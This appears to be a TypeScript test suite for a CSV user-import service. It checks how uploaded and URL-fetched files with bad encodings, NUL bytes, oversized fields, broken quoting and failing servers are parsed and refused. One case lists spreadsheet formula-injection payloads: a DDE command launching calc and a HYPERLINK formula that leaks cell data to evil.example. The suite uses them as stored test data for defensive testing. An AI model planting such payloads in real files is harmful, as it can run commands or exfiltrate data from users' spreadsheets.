import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { resolve } from "node:path";
import { after, before, describe, test } from "node:test";
import type { ActionRow } from "../../runner/engine/actions.ts";
import { isBulkrunError, type ErrorCode } from "../../runner/errors.ts";
import { finished, ledger, newAccount, submitCsv, users } from "../helpers/actions.ts";
import { httpServer } from "../helpers/http.ts";
import { testRuntime, type TestRuntime } from "../helpers/runtime.ts";

const FIXTURES = resolve(import.meta.dirname, "../fixtures/hostile");
const fixture = (name: string) => readFileSync(resolve(FIXTURES, name));

/** One ledger entry: row number, outcome, and the reason when there is one. */
type Entry = [row: number, outcome: string, error?: string];
type User = [email: string, name: string | null, phone: string | null];

/** The file is read: these rows and users, these warnings. */
interface Applied {
  ledger: Entry[];
  users: User[];
  warnings?: string[];
}
/** The file is refused before anything is applied. */
interface Refused {
  code: ErrorCode;
  message: string;
}
interface Case {
  name: string;
  bytes: () => Buffer;
  expect: Applied | Refused;
}

const created = (row: number): Entry => [row, "created"];
const invalid = (row: number, error: string): Entry => [row, "invalid", error];
const notUtf8 = (column: string) => `column \`${column}\` is not UTF-8 text: save the file as "CSV UTF-8" (Windows-1252 and Latin-1 are not accepted)`;
const NOT_TEXT: Refused = {
  code: "BULKRUN_ERR_NOT_CSV",
  message:
    "the file is not a CSV: it contains NUL bytes, which text files never do. " +
    'Export it as "CSV UTF-8 (comma delimited)"; Excel workbooks (.xlsx), UTF-16 text and compressed files are not accepted',
};
const EMPTY: Refused = { code: "BULKRUN_ERR_CSV_EMPTY", message: "the file is empty: expected a header row such as `name,email,phone`" };
const noEmail = (found: string): Refused => ({
  code: "BULKRUN_ERR_CSV_HEADER",
  message: `the CSV header has no \`email\` column (found: ${found}); users.import needs email and reads email, name, phone`,
});
const MEGABYTE = 1_000_000;

const CASES: Case[] = [
  {
    name: "a UTF-8 byte-order mark",
    bytes: () => fixture("bom.csv"),
    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", "Ada Lovelace", "+442079460018"], ["bo@example.com", "Bo", null]] },
  },
  {
    name: "CRLF line ends",
    bytes: () => fixture("crlf.csv"),
    expect: {
      ledger: [created(1), created(2), invalid(3, "email `not-an-email` is not an email address")],
      users: [["ada@example.com", "Ada", "0123456789"], ["bo@example.com", "Bo", null]],
    },
  },
  {
    name: "CR-only line ends, a CR inside quotes and no line end at the end",
    bytes: () => fixture("cr-only.csv"),
    expect: {
      ledger: [created(1), created(2), created(3)],
      users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo\rBobson", null], ["cy@example.com", "Cy", null]],
    },
  },
  {
    name: "quoted fields holding commas, doubled quotes and line breaks",
    bytes: () => fixture("quoted.csv"),
    expect: {
      ledger: [created(1), created(2), created(3), created(4), created(5)],
      users: [
        ["combo@example.com", 'Comma, "and" quote', null],
        ["empty-name@example.com", null, null],
        ["hi@example.com", 'Say "hi"', "+15550100200"],
        ["multi@example.com", "multi\nline\r\nname", null],
        ["smith@example.com", "Smith, Jr.", null],
      ],
    },
  },
  {
    name: "unicode and emoji; emails that Postgres's lower() takes for one (İ, final Σ); invisible and control characters",
    bytes: () => fixture("unicode.csv"),
    expect: {
      ledger: [
        created(1),
        created(2),
        created(3),
        created(4),
        [5, "duplicate_in_file", "row 6 has the same key (ayşei@example.com); the last row wins"],
        created(6),
        [7, "duplicate_in_file", "row 8 has the same key (οδυσσεασ@example.gr); the last row wins"],
        created(8),
        invalid(9, "email contains an invisible character (U+200B) after `zw`"),
        invalid(10, "name contains a control character (U+001B)"),
      ],
      users: [
        ["ayşei@example.com", "Ayşe Two", null],
        ["emoji@example.com", "🙂 Emoji 👍🏽 Family 👨‍👩‍👧", null],
        ["li@example.com", "李小龍", null],
        ["zoë@example.com", "Zoë Ærø", null],
        ["ΕΛΕΝΗ@example.gr", "Ελένη", null],
        ["οδυσσεασ@example.gr", "Greek Two", null],
      ],
    },
  },
  {
    name: "bytes that are not UTF-8 in read and in ignored columns",
    bytes: () => fixture("invalid-utf8.csv"),
    expect: {
      ledger: [created(1), invalid(2, notUtf8("name")), created(3), invalid(4, notUtf8("email")), invalid(5, notUtf8("name"))],
      users: [["good@example.com", "Good", null], ["ok2@example.com", "Ok Two", null]],
      warnings: ["ignored unknown columns: notes"],
    },
  },
  {
    name: "a file saved as Windows-1252",
    bytes: () => fixture("windows-1252.csv"),
    expect: {
      ledger: [invalid(1, notUtf8("name")), created(2), invalid(3, notUtf8("name")), invalid(4, notUtf8("name")), created(5)],
      users: [["ada@example.com", "Plain Ada", null], ["bo@example.com", "Plain Bo", null]],
    },
  },
  {
    name: "rows with too few, too many (up to 100) and only empty cells",
    bytes: () => fixture("columns.csv"),
    expect: {
      ledger: [
        created(1),
        invalid(2, "the row has 2 cells but the header has 3"),
        invalid(3, "the row has 4 cells but the header has 3"),
        invalid(4, "the row has 100 cells but the header has 3"),
        invalid(5, "the row has 1 cell but the header has 3"),
        invalid(6, "email is empty"),
        created(7),
      ],
      users: [["ok@example.com", "Ok", "0123456789"], ["ok2@example.com", "Ok Two", null]],
    },
  },
  {
    name: "duplicate header names: the first column of a name is read",
    bytes: () => fixture("duplicate-header.csv"),
    expect: {
      ledger: [created(1), invalid(2, "email is empty")],
      users: [["first@example.com", "First Name", null]],
      warnings: [
        "column `email` appears more than once in the header; the first one is used",
        "column `name` appears more than once in the header; the first one is used",
      ],
    },
  },
  { name: "a header and no rows", bytes: () => fixture("header-only.csv"), expect: { ledger: [], users: [] } },
  { name: "an empty file", bytes: () => fixture("empty.csv"), expect: EMPTY },
  { name: "a file of a BOM, spaces and line breaks", bytes: () => fixture("blank.csv"), expect: EMPTY },
  { name: "a PNG image", bytes: () => fixture("binary.png"), expect: NOT_TEXT },
  { name: "a ZIP archive", bytes: () => fixture("binary.zip"), expect: NOT_TEXT },
  { name: "UTF-16 text", bytes: () => fixture("utf16.csv"), expect: NOT_TEXT },
  {
    name: "a semicolon-delimited file with commas in its cells",
    bytes: () => fixture("semicolon.csv"),
    expect: {
      ledger: [created(1), created(2), invalid(3, "email `nope` is not an email address")],
      users: [["ada@example.com", "Smith, Ada", "0123456789"], ["bo@example.com", "Bo", null]],
      warnings: ["ignored unknown columns: E-Mail"],
    },
  },
  {
    name: "a semicolon-delimited file whose quoted header holds a comma",
    bytes: () => fixture("quoted-semicolon-header.csv"),
    expect: { ledger: [created(1)], users: [["ada@example.com", null, null]], warnings: ["ignored unknown columns: Last, first"] },
  },
  { name: "a tab-separated file", bytes: () => fixture("tab-separated.csv"), expect: noEmail("name\\u0009email\\u0009phone") },
  {
    name: "spaces, tabs and no-break spaces around emails and other cells",
    bytes: () => fixture("spaces.csv"),
    expect: {
      ledger: [created(1), created(2), created(3), created(4), created(5)],
      users: [
        ["ada@example.com", "Ada", null],
        ["nbsp@example.com", "Nbsp", null],
        ["quoted@example.com", "Quoted", null],
        ["spacey@example.com", "Spacey Name", "0123456789"],
        ["TAB@example.com", "Tab", null],
      ],
    },
  },
  {
    name: "the same email in mixed case and with spaces: the last row wins",
    bytes: () => fixture("case-duplicates.csv"),
    expect: {
      ledger: [
        [1, "duplicate_in_file", "row 4 has the same key (ada@example.com); the last row wins"],
        [2, "duplicate_in_file", "row 5 has the same key (bob@example.com); the last row wins"],
        [3, "duplicate_in_file", "row 4 has the same key (ada@example.com); the last row wins"],
        created(4),
        created(5),
      ],
      users: [["ada@example.com", "Third", null], ["BOB@example.com", "Bob Again", null]],
    },
  },
  {
    name: "formula-looking cells are stored as they are",
    bytes: () => fixture("formulas.csv"),
    expect: {
      ledger: [
        created(1),
        created(2),
        created(3),
        created(4),
        created(5),
        created(6),
        invalid(7, "phone `=1+2` is not a phone number: use 7 to 15 digits, optionally with a leading +"),
      ],
      users: [
        ["=1+2@example.com", "=1+2", null],
        ["at@example.com", "@x", null],
        ["dde@example.com", "=cmd|' /C calc'!A0", null],
        ["hyperlink@example.com", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', null],
        ["minus@example.com", "-2", null],
        ["plus@example.com", "+1", null],
      ],
    },
  },
  {
    name: "NUL bytes inside fields",
    bytes: () => fixture("nul.csv"),
    expect: {
      ledger: [created(1), invalid(2, "column `name` contains a NUL byte"), created(3), invalid(4, "column `email` contains a NUL byte")],
      users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]],
    },
  },
  {
    name: "a quote that is never closed",
    bytes: () => fixture("unclosed-quote.csv"),
    expect: {
      code: "BULKRUN_ERR_NOT_CSV",
      message:
        'the file is not a readable CSV: data row 2 opens a double quote (") that is never closed, which would make ' +
        'the rest of the file one field. Close the quote, or double it ("") where it is part of the text',
    },
  },
  {
    name: "text after the closing quote of a field",
    bytes: () => fixture("text-after-quote.csv"),
    expect: {
      code: "BULKRUN_ERR_NOT_CSV",
      message:
        "the file is not a readable CSV: data row 2 has text after the closing double quote of a field. " +
        'Quote the whole field and double the quotes inside it, e.g. "Ada ""the dev"" Lovelace"',
    },
  },
  {
    name: "quotes inside unquoted fields are text",
    bytes: () => fixture("stray-quote.csv"),
    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", 'Ada "the dev" Lovelace', null], ["bo@example.com", 'Bo"', null]] },
  },
  {
    name: "a 100-column header with the email last",
    bytes: () => fixture("wide-header.csv"),
    expect: {
      ledger: [created(1)],
      users: [["wide@example.com", null, null]],
      warnings: ["ignored unknown columns: col1, col2, col3, col4, col5, col6, col7, col8, col9, col10 and 89 more"],
    },
  },
  {
    name: "header columns without a name",
    bytes: () => fixture("empty-column-name.csv"),
    expect: { ledger: [created(1)], users: [["ada@example.com", "Ada", null]], warnings: ["ignored unknown columns: (unnamed column 2), (unnamed column 4)"] },
  },
  {
    name: "invisible characters and a NUL in header names",
    bytes: () => fixture("invisible-header.csv"),
    expect: { ledger: [created(1)], users: [["ada@example.com", "Ada", null]], warnings: ["ignored unknown columns: x\\u0001y"] },
  },
  { name: "a header without an email column", bytes: () => fixture("no-email-column.csv"), expect: noEmail("name, e-mail address, phone") },
  { name: "an HTML page", bytes: () => fixture("html.csv"), expect: noEmail("<!DOCTYPE html>") },
  {
    name: "blank lines and lines of spaces are not rows",
    bytes: () => fixture("blank-lines.csv"),
    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]] },
  },
  {
    name: "1 MB fields in a read column, an ignored column and the email",
    bytes: () =>
      Buffer.from(
        `name,email,notes\n${"x".repeat(MEGABYTE)},big-name@example.com,\nAda,ada@example.com,${"n".repeat(MEGABYTE)}\n` +
          `Bo,${"e".repeat(MEGABYTE - 12)}@example.com,\nCy,cy@example.com,\n`,
      ),
    expect: {
      ledger: [
        invalid(1, `name is ${MEGABYTE} characters long; at most 200 are allowed`),
        created(2),
        invalid(3, `email is ${MEGABYTE} characters long; at most 254 are allowed`),
        created(4),
      ],
      users: [["ada@example.com", "Ada", null], ["cy@example.com", "Cy", null]],
      warnings: ["ignored unknown columns: notes"],
    },
  },
  {
    name: "a field longer than 1 MiB",
    bytes: () => Buffer.from(`name,email\nAda,ada@example.com\n${"x".repeat(2 * 1024 * 1024)},x@example.com\nCy,cy@example.com\n`),
    expect: {
      code: "BULKRUN_ERR_NOT_CSV",
      message:
        "the file is not a readable CSV: data row 2 is longer than 1 MiB. " +
        'Look for a double quote (") that is opened but never closed near that row; fields longer than 1 MiB are not accepted',
    },
  },
];

let ctx: TestRuntime;
let web: Awaited<ReturnType<typeof httpServer>>;
const served = new Map<string, (req: IncomingMessage, res: ServerResponse) => void>();
const workerErrors: string[] = [];

before(async () => {
  ctx = await testRuntime({ sources: { urlTimeoutMs: 300, urlAttempts: 3, urlRetryDelayMs: 50 } });
  ctx.log = (line) => {
    if (/^worker (error|warning)/.test(line)) workerErrors.push(line);
  };
  await ctx.startWorker();
  web = await httpServer((req, res) => {
    const handler = served.get(req.url!);
    if (handler) handler(req, res);
    else res.writeHead(404).end("not here");
  });
});
after(async () => {
  await web.close();
  await ctx.close();
});

/** Serves `bytes` in two parts a moment apart, so the reader sees the body arrive in pieces. */
function serveFile(path: string, bytes: Buffer): string {
  served.set(path, (_, res) => {
    res.writeHead(200, { "content-type": "text/csv" });
    const half = Math.floor(bytes.length / 2);
    res.write(bytes.subarray(0, half));
    setTimeout(() => res.end(bytes.subarray(half)), 10);
  });
  return `${web.url}${path}`;
}

async function insertUrlAction(accountId: number, url: string): Promise<number> {
  const { rows } = await ctx.db.knex.raw<{ rows: { id: number }[] }>(
    "insert into bulkrun.bulk_actions (account_id, type, source) values (?, 'users.import', ?) returning id",
    [accountId, JSON.stringify({ url })],
  );
  return rows[0]!.id;
}

async function itemCount(actionId: number): Promise<number> {
  const { rows } = await ctx.db.knex.raw<{ rows: { n: number }[] }>(
    "select count(*)::int as n from bulkrun.bulk_action_items where action_id = ?",
    [actionId],
  );
  return rows[0]!.n;
}

const byEmail = (a: User, b: User) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0);

/** Every row once, in order, with its outcome and reason; counters equal to the ledger's tallies. */
async function assertApplied(action: ActionRow, accountId: number, expected: Applied): Promise<void> {
  assert.equal(action.status, "completed", action.error ?? undefined);
  const entries = await ledger(ctx, action.id);
  const statusOf = (outcome: string) => (outcome === "created" ? "succeeded" : outcome === "invalid" ? "failed" : "skipped");
  assert.deepEqual(
    entries.map((e) => [e.row_number, e.status, e.outcome, e.error]),
    expected.ledger.map(([row, outcome, error]) => [row, statusOf(outcome), outcome, error ?? null]),
  );
  assert.equal(await itemCount(action.id), expected.ledger.length);
  const count = (pick: (e: (typeof entries)[number]) => boolean) => entries.filter(pick).length;
  assert.deepEqual(
    [action.total, action.processed, action.created, action.updated, action.skipped, action.failed],
    [
      entries.length,
      count((e) => e.status !== "pending"),
      count((e) => e.outcome === "created"),
      count((e) => e.outcome === "updated"),
      count((e) => e.status === "skipped"),
      count((e) => e.status === "failed"),
    ],
  );
  const stored = (await users(ctx, accountId)).map((u): User => [u.email, u.name, u.phone]);
  assert.deepEqual(stored.sort(byEmail), [...expected.users].sort(byEmail));
  assert.deepEqual(action.warnings, expected.warnings ?? []);
}

/** The action failed with the error, and nothing of the file was staged or applied. */
async function assertRefused(action: ActionRow, accountId: number, expected: Refused): Promise<void> {
  assert.deepEqual([action.status, action.error_code, action.error], ["failed", expected.code, expected.message]);
  assert.deepEqual([action.total, action.processed, action.created, action.failed], [null, 0, 0, 0]);
  assert.equal(await itemCount(action.id), 0);
  assert.deepEqual(await users(ctx, accountId), []);
}

describe("hostile files staged by the CLI (submitFile)", () => {
  for (const { name, bytes, expect } of CASES) {
    test(name, async () => {
      const account = await newAccount(ctx);
      if ("code" in expect) {
        await assert.rejects(submitCsv(ctx, { accountId: account.id }, bytes()), (error) => {
          assert.ok(isBulkrunError(error, expect.code), String(error));
          assert.equal(error.message, expect.message);
          return true;
        });
        const { rows } = await ctx.db.knex.raw<{ rows: ActionRow[] }>("select * from bulkrun.bulk_actions where account_id = ?", [account.id]);
        assert.equal(rows.length, 1);
        await assertRefused(rows[0]!, account.id, expect);
      } else {
        const action = await submitCsv(ctx, { accountId: account.id }, bytes());
        await assertApplied(await finished(ctx, action.id), account.id, expect);
      }
    });
  }
});

describe("hostile files fetched by the worker from a URL", () => {
  CASES.forEach(({ name, bytes, expect }, i) => {
    test(name, async () => {
      const account = await newAccount(ctx);
      const action = await finished(ctx, await insertUrlAction(account.id, serveFile(`/case-${i}.csv`, bytes())));
      if ("code" in expect) await assertRefused(action, account.id, expect);
      else await assertApplied(action, account.id, expect);
    });
  });
});

describe("URL sources that fail", () => {
  const GOOD = Buffer.from("name,email\nAda,ada@example.com\nBo,bo@example.com\n");
  let requests: Record<string, number> = {};
  /** What the action looked like whenever a retry arrived: nothing staged, nothing counted. */
  let seenOnRetry: unknown[] = [];

  function route(path: string, handle: (attempt: number, res: ServerResponse) => void): string {
    requests[path] = 0;
    served.set(path, (_, res) => {
      const attempt = ++requests[path]!;
      if (attempt === 1) return handle(attempt, res);
      snapshot(path).then(
        (state) => {
          seenOnRetry.push(state);
          handle(attempt, res);
        },
        (error) => res.destroy(error),
      );
    });
    return `${web.url}${path}`;
  }

  async function snapshot(path: string) {
    const { rows } = await ctx.db.knex.raw<{ rows: unknown[] }>(
      `select status, total, processed, created, failed, (select count(*)::int from bulkrun.bulk_action_items i where i.action_id = a.id) as items
         from bulkrun.bulk_actions a where source->>'url' = ?`,
      [`${web.url}${path}`],
    );
    return rows[0];
  }

  /** Headers and the first `bytes` bytes of the file, then the connection is cut. */
  function breakOff(res: ServerResponse, bytes: number): void {
    res.writeHead(200, { "content-type": "text/csv", "content-length": GOOD.length });
    res.write(GOOD.subarray(0, bytes));
    setTimeout(() => res.socket?.destroy(), 50);
  }

  const NOTHING_STAGED = { status: "preparing", total: null, processed: 0, created: 0, failed: 0, items: 0 };

  async function assertGaveUp(path: string, code: ErrorCode, message: string, attempts: number) {
    const account = await newAccount(ctx);
    requests = {};
    seenOnRetry = [];
    const url = route(path, handlers[path]!);
    const action = await finished(ctx, await insertUrlAction(account.id, url));
    await assertRefused(action, account.id, { code, message: message.replaceAll("URL", url) });
    assert.equal(requests[path], attempts);
    assert.deepEqual(seenOnRetry, Array(attempts - 1).fill(NOTHING_STAGED));
  }

  const handlers: Record<string, (attempt: number, res: ServerResponse) => void> = {
    "/missing.csv": (_, res) => res.writeHead(404).end("not here"),
    "/silent.csv": () => {},
    "/broken.csv": (_, res) => breakOff(res, 20),
    "/stalled.csv": (_, res) => {
      res.writeHead(200, { "content-type": "text/csv" });
      res.write(GOOD.subarray(0, 20));
    },
    "/unavailable.csv": (_, res) => res.writeHead(503).end("down for maintenance"),
    "/recovers.csv": (attempt, res) => (attempt < 3 ? breakOff(res, 30) : res.writeHead(200).end(GOOD)),
    "/throttled.csv": (attempt, res) => (attempt === 1 ? res.writeHead(429).end() : res.writeHead(200).end(GOOD)),
  };

  test("a 404 fails the action at once, without retries", () =>
    assertGaveUp("/missing.csv", "BULKRUN_ERR_URL_FETCH", "GET URL answered HTTP 404", 1));

  test("a server that never answers is given up after urlTimeoutMs, on every attempt", () =>
    assertGaveUp("/silent.csv", "BULKRUN_ERR_URL_UNAVAILABLE", "GET URL failed: Headers Timeout Error (gave up after 3 attempts)", 3));

  test("a body that breaks off mid-stream is retried, and nothing of it is kept", () =>
    assertGaveUp("/broken.csv", "BULKRUN_ERR_URL_UNAVAILABLE", "GET URL broke off after 20 bytes: other side closed (gave up after 3 attempts)", 3));

  test("a body that stops arriving times out like a silent server", () =>
    assertGaveUp("/stalled.csv", "BULKRUN_ERR_URL_UNAVAILABLE", "GET URL broke off after 20 bytes: Body Timeout Error (gave up after 3 attempts)", 3));

  test("a 503 on every attempt fails the action after the retries", () =>
    assertGaveUp("/unavailable.csv", "BULKRUN_ERR_URL_UNAVAILABLE", "GET URL answered HTTP 503 (gave up after 3 attempts)", 3));

  for (const [path, what] of [["/recovers.csv", "breaks off twice"], ["/throttled.csv", "answers 429 once"]] as const) {
    test(`a URL that ${what} and then answers imports every row exactly once`, async () => {
      const account = await newAccount(ctx);
      requests = {};
      seenOnRetry = [];
      const action = await finished(ctx, await insertUrlAction(account.id, route(path, handlers[path]!)));
      await assertApplied(action, account.id, {
        ledger: [created(1), created(2)],
        users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]],
      });
      assert.equal(action.error, null);
      assert.deepEqual(seenOnRetry, Array(requests[path]! - 1).fill(NOTHING_STAGED));
    });
  }
});

test("no job crashed or was retried while the hostile files ran", () => {
  assert.deepEqual(workerErrors, []);
});
